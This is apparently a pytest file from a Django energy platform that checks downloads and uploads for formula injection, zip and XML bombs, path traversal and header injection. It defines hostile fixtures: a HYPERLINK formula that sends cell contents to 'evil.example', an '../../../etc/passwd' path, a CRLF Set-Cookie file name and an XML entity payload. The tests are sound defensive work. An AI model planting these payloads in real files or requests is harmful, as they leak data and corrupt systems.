"""Files that attack whoever opens them: us, or the person who downloads them."""

import csv
from collections.abc import Iterable, Iterator
from io import BytesIO, StringIO
from pathlib import PurePosixPath
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile
from zoneinfo import ZoneInfo

import numpy as np
import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from assets.csv_files import TABLES, write
from assets.models import Battery, Site
from flexmarket.models import FlexibilityOffers
from flexplatform.accounts.scoping import organization_scope
from flexplatform.api.csv import csv_of, table_of
from flexplatform.api.series import SeriesTable
from flexplatform.spreadsheets import FORMULA, MOST_PARTS, MOST_UNPACKED_BYTES, guarded, unguarded
from optimization.engine import baseline
from optimization.engine.devices import Battery as BatteryDevice
from optimization.models import ScheduleRun
from optimization.scenarios.schedule_table import schedule_csv, schedule_frame, schedule_xlsx
from telemetry.series_files import FileProblem, text_of
from tests.conftest import People
from tests.factories import START, BatteryFactory, SiteFactory, planned_site
from tests.optimization.engine.sites import site as site_of

EVIL = '=HYPERLINK("https://evil.example/?"&A1)'
PATH = "../../../etc/passwd"
SHEET = "xl/worksheets/sheet1.xml"


def cells(text: str) -> Iterator[str]:
    for delimiter in ",;":
        for row in csv.reader(StringIO(text), delimiter=delimiter):
            yield from row


def dangerous(found: Iterable[object]) -> list[str]:
    """Return cells that a spreadsheet would run; numbers may begin with a sign."""

    def runs(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return cell.startswith(FORMULA)
        return False

    return [cell for cell in found if isinstance(cell, str) and runs(cell)]


@pytest.fixture
def planned(people: People) -> tuple[Site, ScheduleRun]:
    """Return a site with a plan whose battery has a formula for a name."""
    site, run = planned_site(people.a)
    with organization_scope(people.a):
        run.series.filter(device="battery").update(device=EVIL)
    return site, run


@pytest.mark.parametrize("text", [EVIL, "+1", "-1", "@x", "\tx", "\rx"])
def test_a_guarded_text_is_shown_and_read_back(text: str) -> None:
    assert dangerous([guarded(text)]) == []
    assert unguarded(guarded(text)) == text
    assert unguarded("'s-Hertogenbosch") == "'s-Hertogenbosch"


def test_no_heading_of_a_downloaded_plan_is_a_formula(people: People, planned: tuple[Site, ScheduleRun]) -> None:
    _, run = planned
    text = people.client("alice").get(f"/o/a/runs/{run.pk}/schedule.csv").content.decode()
    assert "HYPERLINK" in text
    assert dangerous(cells(text)) == []


def test_no_heading_of_the_api_is_a_formula_and_it_is_read_back() -> None:
    table = SeriesTable(START, 900, {f"{EVIL}.power_kw": np.ones(2)})
    text = csv_of(table)
    assert dangerous(cells(text)) == []
    assert list(table_of(text.encode()).columns) == list(table.columns)


def test_a_list_of_devices_holds_no_formula(people: People) -> None:
    site = SiteFactory(organization=people.a)
    BatteryFactory(site=site, name=EVIL)
    table = TABLES["battery"]
    with organization_scope(people.a):
        text = write(table, Battery.objects.select_related("site"))
    assert "HYPERLINK" in text
    assert dangerous(cells(text)) == []


def test_a_schedule_as_workbook_holds_no_formula() -> None:
    problem = site_of(BatteryDevice(name=EVIL, capacity_kwh=4, charge_power_kw=2, discharge_power_kw=2))
    frame = schedule_frame(problem, baseline(problem), ZoneInfo("Europe/Berlin"))
    sheet = openpyxl.load_workbook(BytesIO(schedule_xlsx(frame)))["schedule"]
    assert [cell.data_type for cell in sheet[1]].count("f") == 0
    assert any("HYPERLINK" in str(cell.value) for cell in sheet[1])
    assert dangerous(cells(schedule_csv(frame).decode())) == []


def workbook(**changes: bytes) -> bytes:
    """Return a workbook of two lines, with parts added or replaced."""
    book, made, file = openpyxl.Workbook(), BytesIO(), BytesIO()
    for row in (["time", "a"], ["2026-01-01 00:00", 1], ["2026-01-01 00:15", 2]):
        book.active.append(row)  # type: ignore[union-attr]
    book.save(made)
    with ZipFile(made) as old, ZipFile(file, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, changes.pop(name, old.read(name)))
        for name, content in changes.items():
            new.writestr(name, content)
    return file.getvalue()


BOMBS = {
    "much in one part": {"xl/media/zeros.bin": bytes(MOST_UNPACKED_BYTES + 1)},
    "many parts": {f"xl/media/{number}": b"" for number in range(MOST_PARTS + 1)},
    "entities": {SHEET: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet>&a;</worksheet>'},
    "no XML": {SHEET: b"<worksheet><sheetData><row>"},
    "not text": {SHEET: bytes(range(256))},
}


def test_a_plain_workbook_is_read() -> None:
    assert text_of(workbook()).splitlines()[0] == "time,a"


@pytest.mark.parametrize("changes", BOMBS.values(), ids=BOMBS)
def test_a_workbook_that_unpacks_to_too_much_or_to_nonsense_is_refused(changes: dict[str, bytes]) -> None:
    data = workbook(**changes)
    assert len(data) < 200_000
    with pytest.raises(FileProblem, match="allowed"):
        text_of(data)


@pytest.mark.parametrize("changes", BOMBS.values(), ids=BOMBS)
def test_its_upload_is_an_error_of_the_form(people: People, changes: dict[str, bytes]) -> None:
    site, _ = planned_site(people.a)
    file = SimpleUploadedFile("x.xlsx", workbook(**changes))
    answer = people.client("alice").post(f"/o/a/telemetry/import/{site.slug}/", {"file": file})
    assert answer.status_code == 422, answer.status_code


def members(content: bytes) -> list[str]:
    with ZipFile(BytesIO(content)) as archive:
        return archive.namelist()


def test_no_name_in_an_archive_leads_out_of_it(people: People) -> None:
    _, run = planned_site(people.a)
    with organization_scope(people.a):
        FlexibilityOffers.objects.filter(run=run).update(device=PATH)
    for market in ("comax", "alf"):
        answer: Any = people.client("alice").get(f"/o/a/runs/{run.pk}/offers/{market}.zip")
        assert answer.status_code == 200
        names = members(answer.content)
        assert names
        for name in names:
            assert len(PurePosixPath(name).parts) == 1
            assert ".." not in name
            assert "\\" not in name
        assert "\n" not in answer["Content-Disposition"]


@pytest.mark.parametrize("name", ["../../x.csv", "..\\x.csv", "x\r\nSet-Cookie: a=b.csv", "x" * 300])
def test_the_name_of_an_upload_is_no_path_and_no_header(people: People, name: str) -> None:
    site, _ = planned_site(people.a)
    file = SimpleUploadedFile("x.csv", b"time,a\n")
    file.name = name
    answer = people.client("alice").post(f"/o/a/telemetry/import/{site.slug}/", {"file": file})
    assert answer.status_code == 422
    assert "Set-Cookie: a" not in str(answer.headers)
